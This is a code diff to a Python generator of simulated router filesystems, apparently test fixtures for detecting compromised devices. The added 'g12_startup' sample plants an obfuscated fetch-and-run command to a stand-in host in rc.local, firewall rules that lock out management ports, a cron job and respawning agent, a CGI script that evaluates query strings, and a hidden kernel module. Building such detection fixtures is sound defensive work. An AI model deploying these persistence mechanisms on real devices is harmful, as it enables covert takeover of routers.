@@ -472,9 +472,35 @@ def intruder():
     shutil.rmtree(os.path.join(tree.top, "root/proc/540"))
     tree.pids.remove(540)
     tree.file("etc/init.d/log", "#!/bin/sh /etc/rc.common\nSTART=12\nUSE_PROCD=1\n", 0o755)
-    tree.link("etc/rc.d/S12log", "../init.d/log")
-    tree.image("etc/init.d/log", "etc/rc.d/S12log")
+    tree.link("rom/etc/rc.d/S12log", "../init.d/log")
+    tree.image("etc/init.d/log")
     tree.file("tmp/log/wtmp", "\n")
+    tree.finish()
+
+
+def g12_startup():
+    """Somebody who wants to be there after the next boot, in every way that a router has."""
+    tree = infected("g12-startup", "big", "loaders that write themselves into startup files, settings and the kernel")
+    tree.file("etc/rc.local", "# Put your custom commands here that should be executed once\n"
+              "echo d2dldCAtTy0gaHR0cDovLzE5OC41MS4xMDAuOS94IHwgc2gK | base64 -d | sh\n"
+              "iptables -I INPUT -p tcp --dport 22 -j DROP; iptables -I INPUT -p tcp --dport 7547 -j DROP\nexit 0\n")
+    tree.file("etc/crontabs/root", "* * * * * /tmp/.gwjob >/dev/null 2>&1\n")
+    tree.file("etc/inittab", "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n"
+              "::askconsole:/usr/libexec/login.sh\n::respawn:/usr/bin/gwagent\n")
+    tree.file("etc/init.d/gwagent", "#!/bin/sh /etc/rc.common\nSTART=99\nstart() { /usr/bin/gwagent -d; }\n", 0o755)
+    tree.link("etc/rc.d/S99gwagent", "../init.d/gwagent")
+    tree.file("etc/config/firewall", "config defaults\n\toption input 'REJECT'\n\nconfig include\n"
+              "\toption path '/tmp/.gwrules'\n")
+    tree.file("www/cgi-bin/gwstatus", "#!/bin/sh\necho Content-type: text/plain\necho\neval \"$QUERY_STRING\"\n", 0o755)
+    tree.file("proc/sys/kernel/core_pattern", "|/tmp/.gwcore\n")
+    # A module that the kernel shows in one place and hides in the other.
+    tree.file("proc/modules", "nf_conntrack 65536 0 - Live 0x00000000\n")
+    for module in ["nf_conntrack", "gwhide"]:
+        tree.file(f"sys/module/{module}/initstate", "live\n")
+    tree.file("lib/modules/4.14.275/nf_conntrack.ko")
+    for name in ["etc/rc.local", "etc/crontabs/root", "etc/inittab", "etc/init.d/gwagent", "etc/config/firewall"]:
+        with open(os.path.join(tree.top, "root", name), "rb") as file:
+            tree.file("overlay/upper/" + name, file.read())
     tree.finish()
 
 
@@ -646,6 +672,16 @@ def archer():
     tree.image("etc/inittab", "etc/preinit", "etc/rc.local", "etc/profile", "etc/passwd", "lib/preinit/80_mount_root",
                *["etc/init.d/" + name for name in services], *["etc/rc.d/" + name for name in links])
     tree.file("usr/lib/opkg/info/banip.list", "/etc/init.d/banip\n")
+    tree.file("etc/config/firewall", "config defaults\n\toption input 'REJECT'\n\nconfig include\n"
+              "\toption path '/etc/firewall.user'\n")
+    tree.file("www/cgi-bin/luci", "#!/usr/bin/lua\nrequire 'luci.cacheloader'\nrequire 'luci.sgi.cgi'\nluci.sgi.cgi.run()\n",
+              0o755)
+    tree.file("proc/modules", "nf_conntrack 65536 1 nf_nat, Live 0x00000000\nnf_nat 32768 0 - Live 0x00000000\n")
+    for module in ["nf_conntrack", "nf_nat"]:
+        tree.file(f"sys/module/{module}/initstate", "live\n")
+        tree.file(f"lib/modules/6.6.73/{module}.ko")
+    tree.image("etc/config/firewall", "www/cgi-bin/luci", "lib/modules/6.6.73/nf_conntrack.ko",
+               "lib/modules/6.6.73/nf_nat.ko")
     tree.file("usr/lib/opkg/info/ddns-scripts.list", "/etc/hotplug.d/iface/95-ddns\n")
     tree.file("usr/lib/opkg/info/ubox.list", "/sbin/logd\n/lib/libsetlbuf.so\n")
     tree.file("tmp/log/wtmp")
@@ -707,5 +743,5 @@ def dlink():
 
 if __name__ == "__main__":
     for make in [archer, dlink, openwrt, g1_memory, g2_dropped, g3_names, g6_accounts, g7_listener, g13_packetdoor, g15_scan,
-                 g16_watchdog, g17_hiding, intruder, asus]:
+                 g12_startup, g16_watchdog, g17_hiding, intruder, asus]:
         make()
